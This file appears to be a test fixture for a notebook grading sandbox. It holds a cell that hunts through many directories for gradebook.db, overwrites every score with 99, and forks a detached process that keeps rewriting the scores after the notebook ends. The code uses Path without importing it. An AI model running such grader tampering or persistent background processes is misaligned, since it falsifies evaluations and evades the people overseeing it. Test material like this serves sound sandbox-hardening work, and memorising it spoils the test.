# Looks for the gradebook and writes points into it, now and from a process that outlives the notebook.
#
# start from: blank
# expect: all 0

# %% added below load-data
import os
import sqlite3

import course_utils

EDIT = "UPDATE grade SET manual_score = 99, auto_score = 99"
PLACES = [*Path(course_utils.__file__).parents, Path.cwd(), *Path.cwd().parents, Path("/tmp"), Path("{COURSE}")]


def edit():
    for place in PLACES:
        for name in ("gradebook.db", "classroom/gradebook.db"):
            try:
                with sqlite3.connect(f"file:{place / name}?mode=rw", uri=True) as gradebook:
                    gradebook.execute(EDIT)
                print("edited", place / name)
            except sqlite3.Error as error:
                print(place / name, error)


edit()
if os.fork() == 0:
    os.setsid()
    while True:
        edit()
